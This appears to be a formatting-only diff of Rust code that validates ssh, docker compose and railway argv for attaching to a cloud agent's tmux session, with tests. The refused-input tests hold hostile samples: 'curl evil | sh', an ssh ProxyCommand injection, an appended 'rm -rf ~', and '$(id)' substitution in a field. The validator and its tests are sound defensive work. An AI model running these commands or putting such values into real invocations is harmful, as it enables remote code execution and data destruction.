@@ -209,9 +209,7 @@ fn error_chain(e: &dyn std::error::Error) -> String {
 pub fn server_uid_problem(server: Option<u32>, me: u32) -> Option<String> {
     match server {
         Some(uid) if uid == me => None,
-        Some(uid) => Some(format!(
-            "it is served by uid {uid}, not by you (uid {me})"
-        )),
+        Some(uid) => Some(format!("it is served by uid {uid}, not by you (uid {me})")),
         None => Some("the serving process's uid cannot be read (SO_PEERCRED)".to_string()),
     }
 }
@@ -257,7 +255,8 @@ fn program_named(prog: &str, name: &str) -> bool {
 fn plain_word(w: &str) -> bool {
     !w.is_empty()
         && !w.starts_with('-')
-        && w.bytes().all(|b| b.is_ascii_graphic() && !b"'\"`$;&|<>\\(){}*?![]~#".contains(&b))
+        && w.bytes()
+            .all(|b| b.is_ascii_graphic() && !b"'\"`$;&|<>\\(){}*?![]~#".contains(&b))
 }
 
 /// A Docker name as cloud.yaml allows it (`[a-z0-9][a-z0-9_.-]*`).
@@ -300,9 +299,7 @@ fn ssh_attach_ok(rest: &[&str]) -> bool {
         }
     }
     match &rest[i..] {
-        [dest, "--", remote] => {
-            seen_control && plain_word(dest) && remote_attach_ok(remote)
-        }
+        [dest, "--", remote] => seen_control && plain_word(dest) && remote_attach_ok(remote),
         _ => false,
     }
 }
@@ -370,27 +367,78 @@ mod tests {
     fn attach_argv_of_the_known_shapes_is_accepted() {
         for argv in [
             v(&[
-                "ssh", "-S", "/run/user/0/megaplan-cloudd/ssh/c-1", "-o", "ControlMaster=no",
-                "-F", "/home/op/.ssh/config", "-p", "2222", "-i", "/k/id", "-o",
-                "IdentitiesOnly=yes", "-o", "ConnectTimeout=10", "-t", "root@127.0.0.1", "--",
+                "ssh",
+                "-S",
+                "/run/user/0/megaplan-cloudd/ssh/c-1",
+                "-o",
+                "ControlMaster=no",
+                "-F",
+                "/home/op/.ssh/config",
+                "-p",
+                "2222",
+                "-i",
+                "/k/id",
+                "-o",
+                "IdentitiesOnly=yes",
+                "-o",
+                "ConnectTimeout=10",
+                "-t",
+                "root@127.0.0.1",
+                "--",
                 "docker exec -it megaplan-cloud-agent tmux attach -t agent",
             ]),
             v(&[
-                "ssh", "-S", "/s/c", "-o", "ControlMaster=no", "-p", "22", "-o",
-                "ConnectTimeout=10", "-t", "box", "--", "docker exec -it a.1_b tmux attach -t agent",
+                "ssh",
+                "-S",
+                "/s/c",
+                "-o",
+                "ControlMaster=no",
+                "-p",
+                "22",
+                "-o",
+                "ConnectTimeout=10",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a.1_b tmux attach -t agent",
             ]),
             v(&[
-                "docker", "compose", "-p", "megaplan-cloud", "-f", "/d/docker-compose.yml",
-                "exec", "agent", "tmux", "attach", "-t", "agent",
+                "docker",
+                "compose",
+                "-p",
+                "megaplan-cloud",
+                "-f",
+                "/d/docker-compose.yml",
+                "exec",
+                "agent",
+                "tmux",
+                "attach",
+                "-t",
+                "agent",
             ]),
             v(&[
-                "docker-compose", "-p", "p1", "-f", "/d/c.yml", "exec", "agent", "tmux",
-                "attach", "-t", "agent",
+                "docker-compose",
+                "-p",
+                "p1",
+                "-f",
+                "/d/c.yml",
+                "exec",
+                "agent",
+                "tmux",
+                "attach",
+                "-t",
+                "agent",
             ]),
             v(&["railway", "ssh", "--service", "agent", "--session", "agent"]),
             v(&[
-                "/usr/local/bin/railway", "ssh", "--environment", "production", "--service",
-                "agent", "--session", "s2",
+                "/usr/local/bin/railway",
+                "ssh",
+                "--environment",
+                "production",
+                "--service",
+                "agent",
+                "--session",
+                "s2",
             ]),
         ] {
             check_attach_argv(&argv).unwrap_or_else(|e| panic!("{argv:?}: {e}"));
@@ -403,26 +451,71 @@ mod tests {
             v(&[]),
             v(&["sh", "-c", "curl evil | sh"]),
             v(&[
-                "ssh", "-S", "/s/c", "-o", "ProxyCommand=touch /tmp/pwned", "-t", "box", "--",
+                "ssh",
+                "-S",
+                "/s/c",
+                "-o",
+                "ProxyCommand=touch /tmp/pwned",
+                "-t",
+                "box",
+                "--",
                 "docker exec -it a tmux attach -t agent",
             ]),
             v(&[
-                "ssh", "-S", "/s/c", "-t", "box", "--",
+                "ssh",
+                "-S",
+                "/s/c",
+                "-t",
+                "box",
+                "--",
                 "docker exec -it a tmux attach -t agent; rm -rf ~",
             ]),
-            v(&["ssh", "-S", "/s/c", "-t", "-oProxyCommand=x", "--", "docker exec -it a tmux attach -t agent"]),
-            v(&["ssh", "-t", "box", "--", "docker exec -it a tmux attach -t agent"]),
+            v(&[
+                "ssh",
+                "-S",
+                "/s/c",
+                "-t",
+                "-oProxyCommand=x",
+                "--",
+                "docker exec -it a tmux attach -t agent",
+            ]),
+            v(&[
+                "ssh",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a tmux attach -t agent",
+            ]),
             v(&[
                 "docker", "compose", "-p", "p", "-f", "/d/c.yml", "exec", "agent", "sh",
             ]),
             v(&["docker", "run", "--privileged", "x"]),
             v(&["railway", "run", "--service", "agent", "--session", "agent"]),
-            v(&["railway", "ssh", "--service", "agent", "--session", "agent", "--", "sh"]),
+            v(&[
+                "railway",
+                "ssh",
+                "--service",
+                "agent",
+                "--session",
+                "agent",
+                "--",
+                "sh",
+            ]),
             v(&["railway", "ssh", "--service", "$(id)", "--session", "agent"]),
-            v(&["/tmp/railway-evil/notrailway", "ssh", "--service", "a", "--session", "b"]),
+            v(&[
+                "/tmp/railway-evil/notrailway",
+                "ssh",
+                "--service",
+                "a",
+                "--session",
+                "b",
+            ]),
             v(&["./railway", "ssh", "--service", "a", "--session", "b"]),
         ] {
-            assert!(check_attach_argv(&argv).is_err(), "{argv:?} must be refused");
+            assert!(
+                check_attach_argv(&argv).is_err(),
+                "{argv:?} must be refused"
+            );
         }
     }
 
